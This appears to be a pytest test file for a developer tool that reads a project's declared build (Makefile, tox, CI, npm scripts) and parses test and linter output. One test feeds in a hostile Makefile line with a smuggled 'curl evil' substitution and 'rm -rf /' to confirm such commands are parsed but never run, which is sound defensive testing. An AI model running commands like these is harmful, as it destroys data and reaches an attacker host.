"""Issue 36: the project's declared build, its parsers, and what runs by default."""

from __future__ import annotations

import asyncio
import logging
import threading
import time
from pathlib import Path

import pytest

from driveros.diagnostics import render_snapshot
from driveros.intel import (
    BuildPlan,
    CheckSpec,
    DiagnosticsFeed,
    FeedOptions,
    IntelConfig,
    PathContext,
    task_paths,
)
from driveros.intel._declared import DeclaredCheck, declared_build
from driveros.intel._detect import detect_build
from driveros.intel._imports import ImportGraph, parse_imports
from driveros.intel._parse_tests import (
    parse_flake8,
    parse_gotest,
    parse_jest,
    parse_reformat,
    parse_tap,
    parse_unittest,
)
from driveros.intel._probe import Probe
from tests.intel.conftest import OpenProject

DATA = Path(__file__).parent / "data"
WS = PathContext(roots=("/ws",))

# more-itertools 10.5.0's own files, as its sdist ships them (abridged)
MAKEFILE = """\
.PHONY: check
check:
\tblack --check .
\tflake8 --exclude .venv,venv,docs/conf.py .
\tstubtest more_itertools.more more_itertools.recipes

.PHONY: coverage
coverage:
\tcoverage run --include="more_itertools/*.py" -m unittest
\tcoverage report --show-missing --fail-under=99

.PHONY: test
test:
\tpython3 -m unittest -v ${tests}
"""
TOX = "[tox]\nenvlist = py{38,39}\n\n[testenv]\ncommands = {envpython} -m unittest -v {posargs}\n"
SETUP_CFG = "[flake8]\nexclude = ./docs/conf.py\n\n[mypy]\ncheck_untyped_defs = true\n"
WORKFLOW = """\
jobs:
  build:
    steps:
    - name: Run tests
      run: make coverage
    - name: Static checks
      run: |
        make check
"""
MORE_ITERTOOLS = {
    "Makefile": MAKEFILE,
    "tox.ini": TOX,
    "setup.cfg": SETUP_CFG,
    ".github/workflows/python-app.yml": WORKFLOW,
}


def _summary(checks: tuple[DeclaredCheck, ...]) -> list[tuple[str, str, str]]:
    return [(c.tool, " ".join(c.args), c.origin) for c in checks]


def test_declared_build_reads_make_tox_ci_and_tool_tables() -> None:
    found = declared_build([*MORE_ITERTOOLS, "more_itertools/more.py"], MORE_ITERTOOLS)
    # the CI steps call make: followed to the same targets, so nothing new from them
    assert _summary(found) == [
        ("unittest", "-v", "Makefile:test"),
        ("black", "--check .", "Makefile:check"),
        ("flake8", "--exclude .venv,venv,docs/conf.py .", "Makefile:check"),
        ("stubtest", "more_itertools.more more_itertools.recipes", "Makefile:check"),
        ("unittest", "", "Makefile:coverage"),
        ("unittest", "-v", "tox.ini [testenv]"),
        ("flake8", "", "setup.cfg [flake8]"),
        ("mypy", "", "setup.cfg [mypy]"),
    ]
    ci = declared_build(
        [".github/workflows/ci.yml"],
        {".github/workflows/ci.yml": WORKFLOW.replace("make coverage", "pytest -x tests")},
    )
    assert ("pytest", "-x tests", ".github/workflows/ci.yml") in _summary(ci)


def test_declared_build_follows_npm_scripts_and_reads_pre_commit() -> None:
    package = (
        '{"scripts": {"test": "npm run tests-only", "tests-only": "nyc tape \'test/**/*.js\'",'
        ' "lint": "eslint --ext=js,mjs ."}}'
    )
    pre_commit = "repos:\n- repo: x\n  hooks:\n  - id: ruff\n  - id: mypy\n  - id: trailing-ws\n"
    texts = {"package.json": package, ".pre-commit-config.yaml": pre_commit}
    found = declared_build(list(texts), texts)
    assert _summary(found) == [
        ("tape", "test/**/*.js", "package.json scripts.tests-only"),
        ("eslint", "--ext=js,mjs .", "package.json scripts.lint"),
        ("ruff", "", ".pre-commit-config.yaml ruff"),
        ("mypy", "", ".pre-commit-config.yaml mypy"),
    ]


def test_declared_commands_are_parsed_never_run_hostile_text_is_dropped() -> None:
    hostile = "test:\n\tpytest $(shell curl evil) `rm -rf /` ; echo ok\n"
    (check,) = declared_build(["Makefile"], {"Makefile": hostile})
    assert check.tool == "pytest"
    assert all("$(" not in a for a in check.args)  # make substitutions never carried over


def _plan(
    texts: dict[str, str], tools: list[str], *, contained: bool, config: IntelConfig | None = None
) -> tuple[list[str], tuple[str, ...]]:
    files = [*texts, "more_itertools/more.py", "tests/test_more.py"]
    probe = Probe(found={t: f"/bin/{t}" for t in tools})
    build = detect_build(
        files, texts, probe, config or IntelConfig(), cache="/c", contained=contained
    )
    return [c.name for c in build.checks], build.notes


def test_only_what_the_project_declares_makes_findings() -> None:
    # issue 36 row 2: ruff's defaults and mypy over tests/ and docs/ were the noise
    tools = ["ruff", "mypy", "stubtest", "python3", "pytest"]
    names, notes = _plan(MORE_ITERTOOLS, tools, contained=True)
    # ruff only as the floor (syntax, undefined names), no mypy, the declared unittest
    assert names == ["ruff", "unittest"]
    assert notes == (
        "flake8 (Makefile:check): not installed in the sandbox; not run",
        "stubtest (Makefile:check): not in the project's virtualenv (its results depend on "
        "the project's mypy); not run",
        "black --check (Makefile:check): not installed in the sandbox; not run",
    )
    # asked for in the settings: ruff runs with the project's configuration, mypy too
    names, _ = _plan(MORE_ITERTOOLS, tools, contained=True, config=IntelConfig(tools=("mypy",)))
    assert "mypy" in names


def test_tests_run_by_default_only_where_the_sandbox_contains_them() -> None:
    names, notes = _plan(MORE_ITERTOOLS, ["python3"], contained=False)
    assert "unittest" not in names
    assert (
        "unittest (Makefile:test): tests not run: the sandbox cannot contain them "
        "(no OS sandbox here)" in notes
    )
    names, _ = _plan(MORE_ITERTOOLS, ["python3"], contained=False, config=IntelConfig(tests="run"))
    assert "unittest" in names


def test_parse_unittest_reports_the_failing_test_at_its_assertion() -> None:
    out = (DATA / "unittest_more_itertools.txt").read_text()
    result = parse_unittest("", out, WS, source="unittest")
    assert [(i.path, i.line, i.code, i.message) for i in result.items] == [
        (
            "tests/test_more.py",
            87,
            "test-failure",
            "tests/test_more.py::ChunkedTests::test_strict_being_true: "
            "AssertionError: ValueError not raised by f",
        )
    ]
    assert not any(line.startswith("....") for line in result.unparsed)


def test_parse_unittest_error_outside_an_assertion() -> None:
    out = (
        "E\n======================================================================\n"
        "ERROR: test_x (tests.test_a.T.test_x)\n"
        "----------------------------------------------------------------------\n"
        "Traceback (most recent call last):\n"
        '  File "/ws/tests/test_a.py", line 5, in test_x\n    helper()\n'
        '  File "/ws/pkg/h.py", line 2, in helper\n    raise KeyError(1)\n'
        "KeyError: 1\n\n"
        "----------------------------------------------------------------------\n"
        "Ran 1 test in 0.001s\n\nFAILED (errors=1)\n"
    )
    (item,) = parse_unittest("", out, WS).items
    assert (item.path, item.line, item.code) == ("tests/test_a.py", 5, "test-error")
    assert item.message == "tests/test_a.py::T::test_x: KeyError: 1"


def test_parse_gotest_and_tap_name_the_failing_tests() -> None:
    go = parse_gotest((DATA / "gotest_difflib.jsonl").read_text(), "", WS, source="go")
    first = go.items[0]
    assert (first.path, first.line, first.code) == ("difflib/difflib_test.go", 20, "test-failure")
    assert first.message == "difflib/difflib_test.go::TestSequenceMatcherRatio: 0.375 != 0.75"
    tap = parse_tap((DATA / "tap_qs.txt").read_text(), "", WS, source="tape")
    assert [(i.path, i.line) for i in tap.items] == [
        ("test/parse.js", 263),
        ("test/parse.js", 266),
        ("test/parse.js", 485),
    ]
    assert tap.items[0].message == (
        "test/parse.js::limits specific array indices to arrayLimit::should be deeply "
        "equivalent: expected { a: [ 'a' ] }, actual { a: { 20: 'a' } }"
    )


def test_parse_flake8_and_formatters() -> None:
    flake = parse_flake8("./a.py:3:1: F821 undefined name 'x'\n./a.py:4:80: E501 long\n", "", WS)
    assert [(i.line, i.severity, i.code) for i in flake.items] == [
        (3, "error", "F821"),
        (4, "warning", "E501"),
    ]
    black = parse_reformat("", "would reformat /ws/a.py\nOh no! 1 file would be reformatted.\n", WS)
    assert [(i.path, i.severity, i.code) for i in black.items] == [
        ("a.py", "warning", "would-reformat")
    ]
    assert black.unparsed == []


async def test_parse_imports_never_parses_in_two_threads_at_once(
    open_project: OpenProject, monkeypatch: pytest.MonkeyPatch
) -> None:
    # issue 36 row 4: concurrent ast.parse crashed CPython 3.11's parser
    import ast

    real = ast.parse
    inside = 0
    most = 0
    guard = threading.Lock()

    def parse(source: str, filename: str = "<unknown>") -> ast.AST:
        nonlocal inside, most
        with guard:
            inside += 1
            most = max(most, inside)
        time.sleep(0.01)  # widen the window two unserialized parses would share
        try:
            return real(source, filename=filename)
        finally:
            with guard:
                inside -= 1

    monkeypatch.setattr(ast, "parse", parse)
    files = {f"m{i}.py": f"import m{i + 1}\n" for i in range(24)}
    async with open_project(files) as sandbox:
        graph = ImportGraph()
        assert await graph.update(sandbox, {p: str(i) for i, p in enumerate(files)})
    assert most == 1
    assert parse_imports("import os\n", "a.py") is not None


async def test_a_check_that_fails_inside_driveros_says_so_in_one_line(
    open_project: OpenProject,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    # issue 36 row 4: the whole traceback reached the terminal as a WARNING
    async def broken(*_args: object, **_kwargs: object) -> object:
        raise SystemError("AST constructor recursion depth mismatch (before=48, after=47)")

    async with open_project({"a.py": "x = 1\n"}) as sandbox:
        feed = DiagnosticsFeed(sandbox, config=IntelConfig(disable=("ruff",)))
        monkeypatch.setattr(feed, "_check", broken)
        with caplog.at_level(logging.WARNING, logger="driveros.intel"):
            snap = await asyncio.wait_for(feed.snapshot(), 60)
    (item,) = snap.items
    assert item.code == "check-failed" and "\n" not in item.message
    assert "SystemError: AST constructor recursion depth mismatch" in item.message
    warnings = [r for r in caplog.records if r.levelno >= logging.WARNING]
    assert warnings and all(r.exc_info is None for r in warnings)
    assert all("\n" not in r.getMessage() for r in warnings)
    assert "Traceback" not in render_snapshot(snap)


async def test_a_suite_over_its_budget_is_collected_plus_the_tests_the_task_names(
    open_project: OpenProject,
) -> None:
    files = {
        "pyproject.toml": '[tool.pytest.ini_options]\npythonpath = ["."]\n',
        "tests/test_slow.py": "import time\n\n\ndef test_slow() -> None:\n    time.sleep(120)\n",
        "tests/test_named.py": "def test_named() -> None:\n    assert 1 == 2\n",
    }
    config = IntelConfig(tests="run", test_budget=3, disable=("ruff",), type_checker="off")
    async with open_project(files) as sandbox:
        feed = DiagnosticsFeed(
            sandbox, config=config, options=FeedOptions(focus=["tests/test_named.py"])
        )
        snap = await asyncio.wait_for(feed.snapshot(), 120)
    codes = sorted((i.code or "", i.path) for i in snap.items if i.source == "pytest")
    assert codes == [("over-budget", "."), ("test-failure", "tests/test_named.py")], snap.items
    note = next(i for i in snap.items if i.code == "over-budget")
    assert note.severity == "warning"
    assert note.message == (
        "the test suite took longer than 3s: collected only, plus tests/test_named.py"
    )


async def test_a_tool_the_project_does_not_use_runs_only_on_request(
    open_project: OpenProject,
) -> None:
    files = {"m.py": "import os\n", "tests/test_m.py": "def test_ok() -> None:\n    pass\n"}
    async with open_project(files) as sandbox:
        feed = DiagnosticsFeed(sandbox)
        build = await feed.snapshot()
        asked = await feed.run_tool("ruff")
        again = await feed.snapshot()
    # the build: ruff only as the floor, which finds nothing here
    assert [i for i in build.items if i.source == "ruff"] == []
    assert [(i.path, i.code) for i in asked.items] == [("m.py", "F401")]
    assert asked.raw.startswith("[ruff] run on request: the project does not use it")
    assert again.fingerprint == build.fingerprint  # the request changed nothing


def test_parse_jest_json_and_the_jest_plan() -> None:
    out = (DATA / "jest_sum.out").read_text()
    (item,) = parse_jest(out, "FAIL __tests__/sum.test.js\n", WS, source="jest").items
    assert (item.path, item.line, item.code) == ("__tests__/sum.test.js", 5, "test-failure")
    assert item.message.startswith("__tests__/sum.test.js::sum > adds 1 + 2: Error: expect(")
    texts = {"package.json": '{"scripts": {"test": "jest --runInBand"}}'}
    probe = Probe(found={"node_modules/.bin/jest": "x", "node": "/usr/bin/node"})
    build = detect_build(["package.json", "sum.js"], texts, probe, IntelConfig(), cache="/c")
    assert build.checks == ()  # not contained: the tests do not run
    assert build.notes == (
        "jest (package.json scripts.test): tests not run: the sandbox cannot contain them "
        "(no OS sandbox here)",
    )
    build = detect_build(
        ["package.json", "sum.js"], texts, probe, IntelConfig(), cache="/c", contained=True
    )
    (check,) = build.checks
    assert (
        check.command == "./node_modules/.bin/jest --ci --json --testLocationInResults --runInBand"
    )
    assert (check.parser, check.origin) == ("jest", "package.json scripts.test")


def test_a_declared_prettier_check_reports_would_reformat_warnings() -> None:
    texts = {"package.json": '{"scripts": {"lint": "prettier --check src"}}'}
    probe = Probe(found={"node_modules/.bin/prettier": "x"})
    build = detect_build(["package.json", "src/a.js"], texts, probe, IntelConfig(), cache="/c")
    (check,) = build.checks
    assert (check.command, check.parser) == ("./node_modules/.bin/prettier --check src", "reformat")
    out = (
        "Checking formatting...\n[warn] src/a.js\n"
        "[warn] Code style issues found in the above file.\n"
    )
    (item,) = parse_reformat(out, "", WS, source="prettier").items
    assert (item.path, item.severity, item.code) == ("src/a.js", "warning", "would-reformat")


def test_task_paths_are_the_files_a_task_names() -> None:
    text = "Fix tests/test_more.py (see ./more_itertools/more.py), not /etc/x.py nor ../a.py"
    assert task_paths(text) == ["tests/test_more.py", "more_itertools/more.py"]


def test_parse_unittest_reads_the_older_test_header_too() -> None:
    # Python before 3.11 names the class only: "test_x (tests.test_a.T)"
    new = (DATA / "unittest_more_itertools.txt").read_text()
    old = new.replace(
        "(tests.test_more.ChunkedTests.test_strict_being_true)", "(tests.test_more.ChunkedTests)"
    )
    assert old != new
    assert parse_unittest("", old, WS).items == parse_unittest("", new, WS).items


async def test_the_build_is_told_once_with_the_checks_that_failed_to_run(
    open_project: OpenProject,
) -> None:
    told: list[tuple[list[str], tuple[str, ...]]] = []

    async def on_build(build: BuildPlan, failed: tuple[str, ...]) -> None:
        told.append(([c.name for c in build.checks], failed))

    broken = CheckSpec(name="broken", command="no-such-tool-anywhere --check", parser="raw")
    config = IntelConfig(auto=False, checks=(broken,))
    async with open_project({"a.py": "x = 1\n"}) as sandbox:
        feed = DiagnosticsFeed(sandbox, config=config, options=FeedOptions(on_build=on_build))
        await feed.snapshot()
        await feed.snapshot()  # the same build: not told again
    assert told == [(["broken"], ("check broken could not run (exit 127)",))]
